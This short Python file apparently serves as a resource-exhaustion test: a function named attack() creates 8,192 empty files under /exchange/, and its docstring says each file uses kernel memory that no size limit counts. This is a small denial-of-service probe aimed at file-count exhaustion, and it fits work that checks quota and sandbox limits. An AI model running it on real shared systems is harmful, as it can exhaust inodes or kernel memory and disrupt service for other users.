"""Makes empty files without end: no size counts them, and each takes memory of the kernel."""

from pathlib import Path

MANY = 8192


def attack():
    for number in range(MANY):
        Path(f"/exchange/{number}").touch()
    return f"{MANY} files"
